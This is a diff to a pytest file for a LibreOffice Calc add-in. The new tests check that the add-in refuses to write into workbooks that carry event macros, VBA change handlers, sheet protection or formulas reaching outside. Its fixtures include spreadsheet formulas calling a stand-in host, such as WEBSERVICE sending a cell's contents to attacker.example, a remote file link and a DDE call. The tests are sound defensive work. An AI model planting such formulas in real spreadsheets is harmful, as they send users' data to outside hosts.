@@ -91,6 +91,9 @@ def calc_run(tmp_path_factory):
                  "today": TODAY.isoformat()})
     far_out = work / "far_1.xlsx"
     jobs.append({"kind": "click", "in": _far_cell(inputs / "far.xlsx"), "out": [str(far_out)], "today": TODAY.isoformat()})
+    n_core = len(jobs)
+    third = _third_review_jobs(inputs)
+    jobs += list(third.values())
     calc = libreoffice.Calc(work)
     calc.start()
     try:
@@ -106,9 +109,71 @@ def calc_run(tmp_path_factory):
     out["addons"] = results[n_before_parity - 1 - len(grids)]
     out["grids"] = dict(zip([p.name for p in grids], results[n_before_parity - len(grids):n_before_parity]))
     out["parity"] = {p: r["findings"] for p, r in zip(parity, results[n_before_parity:])}
-    out["far"] = {"clicks": results[-1]["clicks"], "out": [far_out]}
-    out["macro"] = results[-2]
+    out["far"] = {"clicks": results[n_core - 1]["clicks"], "out": [far_out]}
+    out["macro"] = results[n_core - 2]
+    out["third"] = dict(zip(third, results[n_core:]))
     return out
+
+
+OUTSIDE = {  # Calc's own spelling of what tests/test_addin_third.py gives the stand-in
+    "webservice": '=WEBSERVICE("https://attacker.example/?n="&$第1表.B4)',
+    "remote_link": "='file://attacker.example/share/master.ods'#$Sheet1.A1",
+    "dde": '=DDE("soffice";"/tmp/x.ods";"Sheet1.A1")',
+}
+
+
+def _third_review_jobs(inputs: Path) -> dict[str, dict]:
+    """Jobs of the third review: events, VBA, formulas that reach outside, protection (each on its own copy)."""
+    today = TODAY.isoformat()
+
+    def plan(tag: str) -> str:
+        return str(shutil.copy(SAMPLES / "07_period_and_dates.xlsx", inputs / f"third_{tag}.xlsx"))
+
+    jobs = {"events": {"kind": "events_click", "in": plan("events"), "mark": "マクロが動きました", "today": today},
+            "vba": {"kind": "vba_click", "in": plan("vba"), "mark": "マクロが動きました", "today": today},
+            "vba_off": {"kind": "vba_click", "in": plan("vba_off"), "mark": "マクロが動きました", "today": today,
+                        "allow": False},
+            "protected": {"kind": "outside_click", "in": plan("protected"), "formula": "=SUM(1;2)", "cell": [29, 59],
+                          "today": today, "protect": True},
+            "inside": {"kind": "outside_click", "in": plan("inside"), "today": today, "cell": [29, 59],
+                       "formula": "='file:///tmp/master.ods'#$Sheet1.A1&\"WEBSERVICE(\"&\"|\""},
+            "name": {"kind": "outside_click", "in": plan("name"), "formula": 'WEBSERVICE("https://attacker.example/")',
+                     "name": "送信", "today": today}}
+    for kind, formula in OUTSIDE.items():
+        jobs[kind] = {"kind": "outside_click", "in": plan(kind), "formula": formula, "cell": [29, 59], "today": today}
+    return jobs
+
+
+def test_a_received_documents_event_macros_are_unbound_while_we_write_and_bound_again_after(calc_run):
+    """Macros bound to the document's events (変更状態が変わったとき …) and every sheet's (内容が変更されたとき, 数式が計算された
+    とき …): none is bound at any of our writes, each is back after, as Excel's EnableEvents."""
+    e = calc_run["third"]["events"]
+    assert e["ok"], e["message"]
+    assert e["writes"] > 10 and e["bound_while_writing"] == 0
+    assert len(e["before"]) > 4 * 7 and e["after"] == e["before"]
+
+
+def test_a_vba_mode_document_with_event_procedures_is_refused_when_its_macros_may_run(calc_run):
+    """LibreOffice runs an .xlsm's Worksheet_Change itself (VBA mode); it cannot be switched off from outside, so
+    nothing is written — unless the document's macros are not allowed to run."""
+    vba, off = calc_run["third"]["vba"], calc_run["third"]["vba_off"]
+    assert vba["allowed"] and not vba["ok"] and "Worksheet_Change" in vba["message"]
+    assert vba["added"] == [] and vba["modified"] is False
+    assert not off["allowed"] and off["ok"] and SHEET_RESULTS in off["added"]
+
+
+@pytest.mark.parametrize("kind", sorted(OUTSIDE) + ["name", "protected"])
+def test_calc_refuses_what_it_cannot_write_safely_before_writing(calc_run, kind):
+    r = calc_run["third"][kind]
+    assert not r["ok"] and "何も書き込まずに止めました" in r["message"], r["message"]
+    assert r["added"] == [] and r["modified"] is False
+    assert ("保護" if kind == "protected" else "xl-careplan check --annotate") in r["message"]
+
+
+def test_calc_writes_past_formulas_that_stay_inside(calc_run):
+    r = calc_run["third"]["inside"]
+    assert r["ok"], r["message"]
+    assert SHEET_RESULTS in r["added"]
 
 
 def _far_cell(dest: Path) -> str:
